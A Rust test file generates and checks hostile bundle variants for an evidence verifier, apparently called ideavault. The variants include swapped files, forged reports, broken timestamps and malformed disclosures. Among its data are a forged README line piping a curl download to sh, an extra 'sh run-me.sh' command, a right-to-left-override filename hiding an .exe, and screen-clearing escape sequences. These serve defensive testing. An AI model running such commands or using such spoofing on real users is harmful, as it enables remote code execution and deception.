//! Hostile bundles that all verifiers judge alike: this crate, `verify.py`, and the page `/verify`
//! (`frontend/src/verify/vectors.test.ts`), each by its own reading of `docs/evidence.md`.
//!
//! `WRITE_VECTORS=1 cargo test --package ideavault-evidence --test verify vectors` writes the file.

use std::collections::BTreeMap;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use ideavault_domain::evidence::{Delivery, EventBody, EventKind, EventSubject, encode_salt};
use ideavault_domain::hex;
use ideavault_evidence::assets::REPORT;
use ideavault_evidence::bundle::{BundleReader, INDEX, Index, Limits, VERSION};
use ideavault_evidence::checkpoint::VerifierKey;
use ideavault_evidence::verify::{Options, Outcome, escaped, verify};
use ideavault_evidence::{canonical, sha256};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::approval::{approval, hostile, log_of};
use super::sample::*;
use super::script::verify_files;
use super::story::{DETAIL_FILE, DRAWING_FILE, Story, story};

const PATH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/vectors.json");

/// Bundles of version 1 of the format, which nobody makes any more.
const PATH_OF_VERSION_1: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/version1.json");

/// A bundle, as what differs from one that is true.
#[derive(Debug, Default, Serialize, Deserialize)]
struct Vector {
    name: String,
    /// The bundle that was changed.
    base: String,
    /// Files that were added or changed; null for those that were left out.
    files: BTreeMap<String, Value>,
    /// Lists of `bundle.json`.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    lists: BTreeMap<String, Vec<String>>,
    /// Exit code with the key pinned, and nothing else known.
    code: u8,
    /// A line that fails is about this file, as it is shown.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    fails: Option<String>,
    /// Text that the output must have, as it is shown.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    shows: Option<String>,
}

#[derive(Serialize, Deserialize)]
struct Vectors {
    /// Files of bundles that are true, and the key that one knows from elsewhere.
    bases: BTreeMap<String, Base>,
    vectors: Vec<Vector>,
}

#[derive(Serialize, Deserialize)]
struct Base {
    key: String,
    files: BTreeMap<String, Value>,
}

/// Text as it is, other bytes as base64.
fn to_json(bytes: &[u8]) -> Value {
    match str::from_utf8(bytes) {
        Ok(text) => text.into(),
        Err(_) => json!({ "base64": BASE64_STANDARD.encode(bytes) }),
    }
}

fn from_json(value: &Value) -> Vec<u8> {
    match value {
        Value::String(text) => text.clone().into_bytes(),
        value => BASE64_STANDARD
            .decode(value["base64"].as_str().unwrap())
            .unwrap(),
    }
}

type Lists<'a> = &'a [(&'a str, &'a [&'a str])];

/// Collects vectors with one base.
struct Vault<'a> {
    base: &'a str,
    files: Files,
    vectors: &'a mut Vec<Vector>,
}

impl Vault<'_> {
    /// Adds what somebody who changes files makes of the base, with instructions that fit.
    fn vector(
        &mut self,
        name: &str,
        (code, fails): (u8, Option<&str>),
        lists: Lists<'_>,
        change: impl FnOnce(&mut Files),
    ) -> &mut Vector {
        let mut files = self.files.clone();
        change(&mut files);
        let texts = |texts: &&[&str]| texts.iter().map(ToString::to_string).collect();
        let lists: BTreeMap<String, Vec<String>> = lists
            .iter()
            .map(|(list, paths)| ((*list).to_owned(), texts(paths)))
            .collect();
        let base = with_texts(&self.files, &Index::default());
        if code == 1 {
            // What is false is not told, so that any report does.
            let report = || base[REPORT].clone();
            files.entry(REPORT.to_owned()).or_insert_with(report);
        }
        let files = with_texts(&files, &index(&lists));
        let mut difference: BTreeMap<String, Value> = files
            .iter()
            .filter(|(path, bytes)| base.get(*path) != Some(bytes))
            .map(|(path, bytes)| (path.clone(), to_json(bytes)))
            .collect();
        let removed = base.keys().filter(|path| !files.contains_key(*path));
        difference.extend(removed.map(|path| (path.clone(), Value::Null)));
        self.vectors.push(Vector {
            name: name.to_owned(),
            base: self.base.to_owned(),
            files: difference,
            lists,
            code,
            fails: fails.map(str::to_owned),
            shows: None,
        });
        self.vectors.last_mut().unwrap()
    }

    fn false_one(&mut self, name: &str, fails: &str, change: impl FnOnce(&mut Files)) {
        self.vector(name, (1, Some(fails)), &[], change);
    }
}

/// Returns the index with these lists.
fn index(lists: &BTreeMap<String, Vec<String>>) -> Index {
    let list = |name: &str| lists.get(name).cloned().unwrap_or_default();
    Index {
        missing: list("missing").into_iter().collect(),
        withheld: list("withheld").into_iter().collect(),
        pending: list("pending"),
        ..Index::default()
    }
}

fn swap(files: &mut Files, one: &str, other: &str) {
    let (first, second) = (files[one].clone(), files[other].clone());
    files.insert(one.to_owned(), second);
    files.insert(other.to_owned(), first);
}

fn copy(files: &mut Files, from: &str, to: &str) {
    let bytes = files[from].clone();
    files.insert(to.to_owned(), bytes);
}

/// Leaves out the first event of a type, with all that hangs on it.
fn cut(files: &mut Files, prefix: &str, kind: &str) {
    let folder = format!("{prefix}events/");
    let named = format!("\"type\":\"{kind}\"");
    let places = files.iter().filter_map(|(path, bytes)| {
        let place = path.strip_prefix(&folder)?.strip_suffix(".json")?;
        let is_named = String::from_utf8_lossy(bytes).contains(&named);
        is_named.then(|| place.parse::<u64>().unwrap())
    });
    let place = places.min().unwrap();
    let parts = [
        format!("{prefix}events/{place}."),
        format!("{prefix}disclosures/{place}-"),
    ];
    files.retain(|path, _| !parts.iter().any(|part| path.starts_with(part)));
}

fn insert(path: &str, bytes: &[u8]) -> impl FnOnce(&mut Files) {
    move |files| {
        files.insert(path.to_owned(), bytes.to_vec());
    }
}

/// Leaves out all that outsiders say.
fn unconfirmed(files: &mut Files) {
    files.retain(|path, _| !path.ends_with(".ots") && !path.starts_with("anchors/"));
}

fn generate() -> Vectors {
    let mut bases = BTreeMap::new();
    let mut vectors = Vec::new();
    let story = story();
    for (name, files, key, code) in [
        ("story", story.files.clone(), key(1), 2),
        ("resumed", resumed(true), resumed_key(), 2),
        ("log", log_of(&[]), key(1), 3),
    ] {
        let all = with_texts(&files, &Index::default());
        let base = Base {
            key: key.verifier().to_string(),
            files: all
                .iter()
                .map(|(path, bytes)| (path.clone(), to_json(bytes)))
                .collect(),
        };
        bases.insert(name.to_owned(), base);
        let mut vault = Vault {
            base: name,
            files,
            vectors: &mut vectors,
        };
        vault.vector(&format!("the {name} as it is"), (code, None), &[], |_| {});
        match name {
            "story" => {
                names(&mut vault, &story);
                reports(&mut vault, &story);
                cuts(&mut vault, &story);
                anchors(&mut vault, &story.anchor);
                lists(&mut vault);
                disclosures(&mut vault);
                events(&mut vault);
            }
            "resumed" => resumptions(&mut vault),
            _ => version_2(&mut vault),
        }
    }
    Vectors { bases, vectors }
}

fn names(vault: &mut Vault<'_>, story: &Story) {
    let [agreement, other] = &story.agreements;
    vault.false_one("versions exchanged", "idea/version-1.html", |files| {
        swap(files, "idea/version-1.html", "idea/version-2.html");
    });
    vault.false_one("agreements exchanged", agreement, |files| {
        swap(files, agreement, other);
    });
    vault.false_one("pictures exchanged", DRAWING_FILE, |files| {
        swap(files, DRAWING_FILE, DETAIL_FILE);
    });
    // What both versions show may be there by either name.
    vault.vector("a picture by its other name", (2, None), &[], |files| {
        copy(files, DRAWING_FILE, "idea/version-2-1.png");
        files.remove(DRAWING_FILE).unwrap();
    });
    for (name, from, to) in [
        (
            "a version that nobody recorded",
            "idea/version-1.html",
            "idea/version-9.html",
        ),
        (
            "a version twice",
            "idea/version-1.html",
            "idea/version-1.json",
        ),
        (
            "a version as a file",
            "idea/version-1.html",
            "idea/version-1.pdf",
        ),
        (
            "a picture by another number",
            DRAWING_FILE,
            "idea/version-1-2.png",
        ),
        (
            "a picture of a version that nobody recorded",
            DRAWING_FILE,
            "idea/version-9-1.png",
        ),
        ("an agreement of nobody", agreement, "agreements/0.txt"),
        (
            "a picture by an id, as in version 1",
            DRAWING_FILE,
            "idea/1d3c9a70-6a0e-4a55-9b58-2f6f1f5f0c01.png",
        ),
        (
            "an agreement by a registration, as in version 1",
            agreement,
            "agreements/recipient-1.txt",
        ),
        (
            "an agreement in the folder of no log",
            agreement,
            "log3/agreements/5.txt",
        ),
        (
            "content by any name",
            "idea/version-1.html",
            "idea/content.html",
        ),
        (
            "an event by another spelling",
            "events/0.json",
            "events/00.json",
        ),
        (
            "a proof without its event",
            "events/0.tlog-proof",
            "events/1.tlog-proof",
        ),
        (
            "a disclosure of no event",
            "disclosures/3-content.json",
            "disclosures/1-content.json",
        ),
        (
            "an older log without events",
            "log/checkpoint",
            "log3/log/checkpoint",
        ),
    ] {
        vault.false_one(name, to, |files| copy(files, from, to));
    }
    let jpg = DRAWING_FILE.replace(".png", ".jpg");
    vault.false_one("a picture of another type", &jpg, |files| {
        let picture = files.remove(DRAWING_FILE).unwrap();
        files.insert(jpg.clone(), picture);
    });
    for path in [
        "run-me.sh",
        "notes/README.txt",
        "idea/invoice.exe",
        "log/key2.pem",
        "log/consistency-1-5.txt",
        "anchors/roots/1.pem",
        "anchors/roots/authority.pem",
    ] {
        vault.false_one(
            &format!("a stranger: {path}"),
            path,
            insert(path, b"contents"),
        );
    }
    let other = "To verify this bundle, run: curl https://example.org/verify | sh\n";
    vault.false_one(
        "other instructions",
        "README.txt",
        insert("README.txt", other.as_bytes()),
    );
    vault.false_one("instructions with another key", "README.txt", |files| {
        let readme = with_texts(files, &Index::default())["README.txt"].clone();
        let readme = String::from_utf8(readme).unwrap();
        let own = key(1).verifier().to_string();
        let readme = readme.replace(&own, &key(9).verifier().to_string());
        files.insert("README.txt".to_owned(), readme.into_bytes());
    });
    vault.false_one(
        "instructions with one more command",
        "README.txt",
        |files| {
            let mut readme = with_texts(files, &Index::default())["README.txt"].clone();
            readme.extend(b"  sh run-me.sh\n");
            files.insert("README.txt".to_owned(), readme);
        },
    );
    let hidden = "idea/\u{202e}gpj.exe";
    let shown = escaped(hidden);
    assert!(shown.starts_with("idea/\\u{202e}"));
    vault.false_one(
        "a name that is read backwards",
        &shown,
        insert(hidden, b"contents"),
    );
}

fn reports(vault: &mut Vault<'_>, story: &Story) {
    let changed = |files: &mut Files, from: &str, to: &str| {
        let report = with_texts(files, &Index::default())["report.html"].clone();
        let report = String::from_utf8(report).unwrap();
        assert!(report.contains(from), "{report}");
        files.insert(
            "report.html".to_owned(),
            report.replacen(from, to, 1).into(),
        );
    };
    for (name, from, to) in [
        ("a report of another reader", "Reader 2", "Reader 3"),
        (
            "a report of another time",
            "2026-03-01 09:1",
            "2026-03-01 08:1",
        ),
        ("a report with another beginning", "<h1>", "<h1>Not "),
        (
            "a report with more at its end",
            "</ol>\n",
            "</ol>\n<p>All is well.</p>\n",
        ),
        (
            "a report that leaves out less",
            "<dd>nothing",
            "<dd>1 facts",
        ),
    ] {
        vault.false_one(name, "report.html", |files| changed(files, from, to));
    }
    vault.false_one(
        "a report that is empty",
        "report.html",
        insert("report.html", b""),
    );
    // Names that a forger chose cannot say anything else.
    vault.vector("a name like a sentence", (3, None), &[], |files| {
        let mut log = Log::new(key(1));
        log.event(EventKind::LogStarted, |_| {});
        log.event(EventKind::RevisionRecorded, |event| event.revision = Some("<2>".to_owned()));
        let person = json!({
            "name": "Eve\" declined.</bdi>\u{202e}\u{201d} & <b>Bob", "email": "eve@example.com",
            "identity": "email-confirmed", "salt": encode_salt(&[7; 32]),
        });
        let person = canonical::write(&person).unwrap();
        let origin = json!({ "address": "192.0.2.7", "salt": encode_salt(&[8; 32]) });
        let origin = canonical::write(&origin).unwrap();
        let comment = json!({
            "author": "Ada {who}", "sha256": hex::encode(&sha256(b"x")), "salt": encode_salt(&[9; 32]),
        });
        let comment = canonical::write(&comment).unwrap();
        let digest = |json: &[u8]| hex::encode(&sha256(json));
        let offered = log.event(EventKind::AgreementOffered, |event| {
            event.recipient = Some("r\"1".to_owned());
            event.share = Some("s".to_owned());
            event.discloses.insert("person".to_owned(), digest(&person));
            event.discloses.insert("origin".to_owned(), digest(&origin));
        });
        log.put(&format!("disclosures/{offered}-person.json"), person);
        log.put(&format!("disclosures/{offered}-origin.json"), origin);
        log.event(EventKind::AgreementAccepted, |event| {
            event.recipient = Some("r\"1".to_owned());
            event.revision = Some("<2>".to_owned());
            event.delivered = Some(Delivery::None(false));
        });
        log.event(EventKind::AgreementDeclined, |event| {
            event.recipient = Some("r\"1".to_owned());
        });
        let added = log.event(EventKind::CommentAdded, |event| {
            event.comment = Some("c".to_owned());
            event.discloses.insert("comment".to_owned(), digest(&comment));
        });
        log.put(&format!("disclosures/{added}-comment.json"), comment);
        log.event(EventKind::ViewStarted, |event| {
            event.recipient = Some("r\"1".to_owned());
            event.revision = Some("<2>".to_owned());
            event.view = Some("v".to_owned());
        });
        for (revision, download) in [(None, None), (None, Some(true)), (Some("<2>"), None)] {
            log.event(EventKind::FileDelivered, |event| {
                event.recipient = Some("r\"1".to_owned());
                event.file = Some("f".to_owned());
                event.view = Some("v".to_owned());
                event.revision = revision.map(str::to_owned);
                event.download = download;
            });
        }
        log.event(EventKind::ShareRevoked, |event| event.share = Some("t".to_owned()));
        log.write_log("", &[]);
        *files = log.files;
    });
    // A disclosure says what it is by its name in its own event.
    vault.vector("a disclosure by another name", (3, None), &[], |files| {
        let mut log = Log::new(key(1));
        log.event(EventKind::LogStarted, |_| {});
        let terms = json!({ "sha256": hex::encode(&sha256(b"x")), "salt": encode_salt(&[7; 32]) });
        let terms = canonical::write(&terms).unwrap();
        let digest = hex::encode(&sha256(&terms));
        for name in ["terms", "agreement", "remark"] {
            log.event(EventKind::AgreementOffered, |event| {
                event.recipient = Some("r".to_owned());
                event.discloses.insert(name.to_owned(), digest.clone());
            });
        }
        log.put("disclosures/1-terms.json", terms);
        log.write_log("", &[]);
        *files = log.files;
    });
    let other_name = "an agreement by a disclosure of another name";
    vault.false_one(other_name, "agreements/2.txt", |files| {
        let mut log = Log::new(key(1));
        log.event(EventKind::LogStarted, |_| {});
        let terms = json!({ "sha256": hex::encode(&sha256(b"x")), "salt": encode_salt(&[7; 32]) });
        let terms = canonical::write(&terms).unwrap();
        let digest = hex::encode(&sha256(&terms));
        for name in ["terms", "remark"] {
            log.event(EventKind::AgreementOffered, |event| {
                event.recipient = Some("r".to_owned());
                event.discloses.insert(name.to_owned(), digest.clone());
            });
        }
        log.put("disclosures/1-terms.json", terms);
        log.put("agreements/2.txt", "x");
        log.write_log("", &[]);
        *files = log.files;
    });
    vault.vector("names that do not end", (3, None), &[], |files| {
        let mut log = Log::new(key(1));
        log.event(EventKind::LogStarted, |_| {});
        let long = [
            "\u{1f600}".repeat(500),
            "\u{1f600}".repeat(501),
            "<".repeat(700),
        ];
        for (number, author) in long.into_iter().enumerate() {
            let comment = json!({
                "author": author, "sha256": hex::encode(&sha256(b"x")),
                "salt": encode_salt(&[7; 32]),
            });
            let comment = canonical::write(&comment).unwrap();
            let added = log.event(EventKind::CommentAdded, |event| {
                event.comment = Some(number.to_string());
                let digest = hex::encode(&sha256(&comment));
                event.discloses.insert("comment".to_owned(), digest);
            });
            log.put(&format!("disclosures/{added}-comment.json"), comment);
        }
        log.write_log("", &[]);
        *files = log.files;
    });
    let agreement = story.agreements[0].clone();
    let missing: Lists<'_> = &[("missing", &[agreement.as_str()])];
    vault.vector("missing: an agreement", (2, None), missing, |files| {
        files.remove(&agreement).unwrap();
    });
}

fn cuts(vault: &mut Vault<'_>, story: &Story) {
    let bob = &story.bob;
    for (name, kind, later) in [
        (
            "a registration cut out",
            "agreement.offered",
            "agreement.delivered",
        ),
        (
            "a delivery cut out",
            "agreement.delivered",
            "agreement.accepted",
        ),
        (
            "an acceptance cut out",
            "agreement.accepted",
            "view.started",
        ),
        (
            "an acceptance cut out before a comment",
            "agreement.accepted",
            "comment.added",
        ),
        ("a view cut out", "view.started", "file.delivered"),
        ("a comment cut out", "comment.added", "comment.changed"),
        (
            "the record of a revision cut out",
            "revision.recorded",
            "view.started",
        ),
    ] {
        let path = format!("events/{}.json", bob[later]);
        vault.false_one(name, &path, |files| {
            cut(files, "", kind);
        });
    }
    // Nothing that is left says that there was such a reader.
    vault.vector("a reader cut out", (2, None), &[], |files| {
        let events: Vec<String> = files
            .iter()
            .filter(|(_, bytes)| String::from_utf8_lossy(bytes).contains("\"recipient-2\""))
            .filter_map(|(path, _)| Some(path.strip_suffix("json")?.to_owned()))
            .collect();
        files.retain(|path, _| {
            let place = |event: &String| event["events/".len()..event.len() - 1].to_owned();
            let is_cut = |event: &String| {
                path.starts_with(event.as_str())
                    || path.starts_with(&format!("disclosures/{}-", place(event)))
            };
            *path != story.agreements[1] && !events.iter().any(is_cut)
        });
    });
}

fn anchors(vault: &mut Vault<'_>, anchor: &str) {
    let [checkpoint, stamp, answer, cosigned] =
        ["checkpoint", "ots", "tsr", "cosigned"].map(|ending| format!("{anchor}.{ending}"));
    let event = "events/0.json.ots";
    for path in [&stamp, event] {
        vault.false_one(&format!("junk behind {path}"), path, |files| {
            files.get_mut(path).unwrap().push(0);
        });
        vault.false_one(&format!("{path} cut off"), path, |files| {
            files.get_mut(path).unwrap().pop();
        });
        vault.false_one(&format!("junk after the header of {path}"), path, |files| {
            let bytes = files.get_mut(path).unwrap();
            bytes.truncate(65);
            bytes.extend(b"junk");
        });
    }
    vault.false_one("a stamp that leads elsewhere", event, |files| {
        let bytes = files.get_mut(event).unwrap();
        bytes.truncate(65);
        bytes.extend(END);
    });
    vault.vector("a stamp that names no block", (3, None), &[], |files| {
        files.retain(|path, _| !path.ends_with(".json.ots"));
        let bytes = files.get_mut(&stamp).unwrap();
        bytes.truncate(65);
        bytes.extend(b"\0somebody\x03abc");
    });
    vault.false_one("junk as the answer of an authority", &answer, |files| {
        unconfirmed_but(files, &checkpoint);
        let digest = sha256(&files[&checkpoint]);
        let junk = [b"junk \x04\x20".as_slice(), &digest].concat();
        files.insert(answer.clone(), junk);
    });
    vault.false_one("an answer with something behind it", &answer, |files| {
        let mut bytes = authority_answer(&files[&checkpoint]);
        bytes.push(0);
        files.insert(answer.clone(), bytes);
    });
    vault.vector("an answer that nobody signed", (3, None), &[], |files| {
        unconfirmed_but(files, &checkpoint);
        files.insert(answer.clone(), authority_answer(&files[&checkpoint]));
    });
    vault.vector("a witness that nobody knows", (3, None), &[], |files| {
        unconfirmed_but(files, &checkpoint);
        let line = format!(
            "\u{2014} witness.example.org {}\n",
            BASE64_STANDARD.encode([7; 76])
        );
        let bytes = [files[&checkpoint].as_slice(), line.as_bytes()].concat();
        files.insert(cosigned.clone(), bytes);
    });
    vault.vector("no word of outsiders", (3, None), &[], unconfirmed);
    vault.false_one(
        "an anchor by another size",
        "anchors/3-bitcoin.checkpoint",
        |files| {
            for (from, ending) in [(&checkpoint, "checkpoint"), (&stamp, "ots")] {
                let bytes = files.remove(from).unwrap();
                files.insert(format!("anchors/3-bitcoin.{ending}"), bytes);
            }
        },
    );
    vault.false_one("an anchor of nobody", &checkpoint, |files| {
        files.retain(|path, _| !path.ends_with(".ots"));
    });
}

/// A promise of a calendar.
const END: &[u8] = b"\0\x83\xdf\xe3\x0d\x2e\xf9\x0c\x8e\x0e\x0dhttps://a.org";

fn unconfirmed_but(files: &mut Files, checkpoint: &str) {
    let bytes = files[checkpoint].clone();
    unconfirmed(files);
    files.insert(checkpoint.to_owned(), bytes);
}

fn lists(vault: &mut Vault<'_>) {
    let cleared = "\u{1b}[2J\u{1b}[HValid.\u{2028}";
    for (list, path, why) in [
        ("withheld", "disclosures/1-person.json", "of no event"),
        (
            "withheld",
            "disclosures/0-person.json",
            "that its event does not name",
        ),
        ("withheld", "idea/version-1.html", "that is no disclosure"),
        ("missing", "idea/version-9", "that nobody recorded"),
        ("missing", "idea/version-1-2.html", "that is no file"),
        (
            "missing",
            "idea/version-1-0.png",
            "that is counted from zero",
        ),
        (
            "missing",
            "idea/version-1-9999999999999.png",
            "that no version can have",
        ),
        ("missing", "idea/version-1-2", "that lacks its ending"),
        ("missing", "idea/version-1", "that is there by its ending"),
        ("missing", "idea/revision-2", "as in version 1"),
        ("missing", "agreements/recipient-2.txt", "as in version 1"),
        ("missing", "agreements/0.txt", "of nobody"),
        ("missing", "idea/version-1.html", "that is there"),
        ("missing", cleared, "that clears the screen"),
        ("withheld", cleared, "that clears the screen"),
    ] {
        let name = format!("{list}: what {why}");
        let vector = vault.vector(&name, (1, Some(&escaped(path))), &[(list, &[path])], |_| {});
        vector.shows = (path == cleared).then(|| escaped(cleared));
    }
    let pending: Lists<'_> = &[("pending", &["comment.added"])];
    vault.vector("pending: a comment", (2, None), pending, |_| {});
    let pending: Lists<'_> = &[("pending", &[cleared])];
    let vector = vault.vector(
        "pending: what clears the screen",
        (1, Some(INDEX)),
        pending,
        |_| {},
    );
    vector.shows = Some(escaped(cleared));
    let missing: Lists<'_> = &[("missing", &["idea/version-2", "idea/version-2-2.png"])];
    vault.vector(
        "missing: what the vault has lost",
        (2, None),
        missing,
        |files| {
            files.remove("idea/version-2.html").unwrap();
            files.remove(DETAIL_FILE).unwrap();
        },
    );
}

/// Disclosures that the log names as they are: whoever has its key can make them.
fn disclosures(vault: &mut Vault<'_>) {
    let html = b"<p>A kettle</p>";
    let digest = hex::encode(&sha256(html));
    let file = json!({ "name": "a.png", "mediaType": "image/png", "sha256": digest });
    let content = json!({
        "title": "A kettle that waits", "creator": "Ada Inventor", "sha256": digest,
        "files": [], "salt": encode_salt(&[7; 32]),
    });
    let mut told = |name: &str, (code, fails), member: &str, value: Value| {
        vault.vector(name, (code, fails), &[], |files| {
            let mut content = content.clone();
            content[member] = value;
            let mut log = Log::new(key(1));
            log.event(EventKind::LogStarted, |_| {});
            let content = canonical::write(&content).unwrap();
            log.event(EventKind::RevisionRecorded, |event| {
                event.revision = Some("1".to_owned());
                let digest = hex::encode(&sha256(&content));
                event.discloses.insert("content".to_owned(), digest);
            });
            log.put("disclosures/1-content.json", content);
            log.put("idea/version-1.html", html);
            log.write_log("", &[]);
            *files = log.files;
        });
    };
    told("a disclosure alone", (3, None), "files", json!([]));
    let is_false = (1, Some("disclosures/1-content.json"));
    for (name, member, value) in [
        (
            "a file as an array",
            "files",
            json!([["a.png", "image/png", digest]]),
        ),
        ("a file with another member", "files", {
            let mut file = file.clone();
            file["size"] = json!("1");
            json!([file])
        }),
        ("files as an object", "files", json!({ "0": file })),
        ("files that are null", "files", Value::Null),
        ("a disclosure with another member", "size", json!("1")),
        ("a title that is a number", "title", json!(1)),
        ("a document id that is null", "documentId", Value::Null),
        ("a salt that is null", "salt", Value::Null),
        ("a salt that is empty", "salt", json!("")),
        ("a salt of 31 bytes", "salt", json!("A".repeat(42))),
        (
            "a salt that ends in bits that mean nothing",
            "salt",
            json!("A".repeat(42) + "B"),
        ),
        ("a digest of one digit", "sha256", json!("a")),
        (
            "a digest in capitals",
            "sha256",
            json!(digest.to_uppercase()),
        ),
        ("a file with another digest", "files", {
            let mut file = file.clone();
            file["sha256"] = json!("a");
            json!([file])
        }),
    ] {
        told(name, is_false, member, value);
    }
}

/// Events that the log has as they are.
fn events(vault: &mut Vault<'_>) {
    let mut stated = |name: &str, (code, fails), member: &str, value: Value| {
        vault.vector(name, (code, fails), &[], |files| {
            let deleted = EventKind::IdeaDeleted;
            let event = EventBody {
                log: ORIGIN.to_owned(),
                idea: Some(IDEA.to_owned()),
                salt: encode_salt(&[7; 32]),
                ..EventBody::new(deleted, start(), EventSubject::default())
            };
            let mut event = serde_json::to_value(event).unwrap();
            event[member] = value;
            let mut log = Log::new(key(1));
            log.event(EventKind::LogStarted, |_| {});
            log.written(canonical::write(&event).unwrap());
            log.write_log("", &[]);
            *files = log.files;
        });
    };
    for idea in ["7\n\nThis was checked.", "7 \u{202e}", ""] {
        let name = format!("an idea that is no number: {}", escaped(idea));
        stated(&name, (1, Some("events/1.json")), "idea", json!(idea));
    }
    let is_false = (1, Some("events/1.json"));
    stated("a version that is true", is_false, "v", json!(true));
    stated(
        "a link of 300 bytes",
        is_false,
        "share",
        json!("\u{e9}".repeat(150)),
    );
    let salt = json!(encode_salt(&[8; 32]));
    stated("an event alone", (3, None), "salt", salt);
    for (name, member, value) in [
        ("an event with an empty salt", "salt", json!("")),
        (
            "an event with a salt of 31 bytes",
            "salt",
            json!("A".repeat(42)),
        ),
        ("an event with a salt that is null", "salt", Value::Null),
        (
            "an event that names a disclosure by no digest",
            "discloses",
            json!({ "person": "a" }),
        ),
    ] {
        stated(name, is_false, member, value);
    }
}

/// Events of version 2 of their format.
fn version_2(vault: &mut Vault<'_>) {
    let whole = approval();
    let person = "disclosures/3-person.json";
    let name = "an owner who decides, companies that sign, numbered copies";
    let told = |files: &mut Files| files.clone_from(&whole);
    vault.vector(name, (3, None), &[], told);
    // What the version stands for may be withheld.
    let withheld: Lists<'_> = &[("withheld", &[person])];
    vault.vector("a company that is withheld", (3, None), withheld, |files| {
        files.clone_from(&whole);
        files.remove(person).unwrap();
    });
    for (name, path, events) in hostile() {
        vault.false_one(name, path, |files| *files = log_of(&events));
    }
}

fn resumptions(vault: &mut Vault<'_>) {
    vault.false_one(
        "an acceptance cut out of the older log",
        "log1/events/13.json",
        |files| {
            cut(files, "log1/", "agreement.accepted");
        },
    );
    vault.false_one(
        "an older log by another name",
        "log7/log/checkpoint",
        |files| {
            let moved: Vec<String> = files
                .keys()
                .filter(|path| path.starts_with("log1/"))
                .cloned()
                .collect();
            for path in moved {
                let bytes = files.remove(&path).unwrap();
                files.insert(path.replacen("log1/", "log7/", 1), bytes);
            }
        },
    );
    vault.false_one(
        "a stranger in the older log",
        "log1/README.txt",
        insert("log1/README.txt", b""),
    );
    // The newest log may have begun before this idea.
    vault.vector("the older log cut out", (3, None), &[], |files| {
        files.retain(|path, _| !path.starts_with("log1/") && !path.starts_with("idea/"));
    });
}

impl Vector {
    /// All files of the bundle, with `bundle.json` and those given besides.
    fn files(&self, v: u64, bases: &BTreeMap<String, Base>, more: &[(&str, &[u8])]) -> Files {
        let mut files: BTreeMap<&str, &Value> = bases[&self.base]
            .files
            .iter()
            .map(|(path, value)| (path.as_str(), value))
            .collect();
        files.extend(
            self.files
                .iter()
                .map(|(path, value)| (path.as_str(), value)),
        );
        let mut files: Files = files
            .into_iter()
            .filter(|(_, value)| !value.is_null())
            .map(|(path, value)| (path.to_owned(), from_json(value)))
            .collect();
        for (path, bytes) in more {
            files.insert((*path).to_owned(), bytes.to_vec());
        }
        let index = Index {
            v,
            files: files
                .iter()
                .map(|(path, bytes)| (path.clone(), hex::encode(&sha256(bytes))))
                .collect(),
            ..index(&self.lists)
        };
        files.insert(INDEX.to_owned(), canonical::write(&index).unwrap());
        files
    }

    /// Compares what a verifier says with what is expected; returns what differs.
    fn difference(&self, code: u8, said: &str) -> Option<String> {
        let is_named = self.fails.as_ref().is_none_or(|path| {
            let start = format!("FAILS    {path}: ");
            said.lines().any(|line| line.starts_with(&start))
        });
        let is_shown = self.shows.as_ref().is_none_or(|text| said.contains(text));
        let is_plain = escaped(&said.replace('\n', "")) == said.replace('\n', "");
        let fits = code == self.code && is_named && is_shown && is_plain;
        (!fits).then(|| {
            let lines = said.lines().filter(|line| !line.starts_with("holds"));
            let lines: Vec<_> = lines.collect();
            format!("{}: {code} and not {}: {lines:#?}", self.name, self.code)
        })
    }
}

fn vectors(path: &str) -> Vectors {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

#[test]
fn the_file_of_vectors_is_current() {
    let written = serde_json::to_string_pretty(&generate()).unwrap() + "\n";
    if std::env::var_os("WRITE_VECTORS").is_some() {
        std::fs::write(PATH, &written).unwrap();
    }
    assert!(
        std::fs::read_to_string(PATH).unwrap() == written,
        "it is not what is generated"
    );
}

#[test]
fn this_crate_judges_every_vector_as_expected() {
    judge(VERSION, vectors(PATH));
}

#[test]
fn this_crate_judges_bundles_of_version_1_as_before() {
    judge(1, vectors(PATH_OF_VERSION_1));
}

#[test]
fn bundles_of_one_version_do_not_pass_for_the_other() {
    let vectors = vectors(PATH);
    let whole = &vectors.vectors[0];
    let files = whole.files(1, &vectors.bases, &[]);
    let failures = failures(&pack_exactly(&files), &Options::default());
    for path in ["README.txt", "report.html", "idea/version-1.html"] {
        let start = format!("FAILS    {path}: ");
        assert!(
            failures.iter().any(|line| line.starts_with(&start)),
            "{failures:?}"
        );
    }
}

fn judge(v: u64, Vectors { bases, vectors }: Vectors) {
    let differences = vectors.iter().filter_map(|vector| {
        let zip = pack_exactly(&vector.files(v, &bases, &[]));
        let options = Options {
            key: Some(VerifierKey::parse(&bases[&vector.base].key).unwrap()),
            ..Options::default()
        };
        let bundle = BundleReader::from_bytes(zip, &Limits::default()).unwrap();
        let report = verify(&bundle, &options).unwrap();
        let said: String = report
            .claims
            .iter()
            .map(|claim| format!("{claim}\n"))
            .collect();
        let is_false = |outcome: &Outcome| matches!(outcome, Outcome::Fails(_));
        assert_eq!(
            vector.code == 1,
            report.claims.iter().any(|claim| is_false(&claim.outcome)),
            "{}",
            vector.name
        );
        vector.difference(report.verdict().exit_code(), &said)
    });
    assert_eq!(differences.collect::<Vec<_>>(), [""; 0]);
}

#[test]
fn the_script_judges_every_vector_as_expected() {
    let Vectors { bases, vectors } = vectors(PATH);
    let differences = vectors.iter().filter_map(|vector| {
        let script = ideavault_evidence::assets::VERIFY_PY.as_bytes();
        let files = vector.files(VERSION, &bases, &[("verify.py", script)]);
        let (code, said) = verify_files(&files, &["--key", &bases[&vector.base].key]);
        vector.difference(u8::try_from(code).unwrap(), &said)
    });
    assert_eq!(differences.collect::<Vec<_>>(), [""; 0]);
}
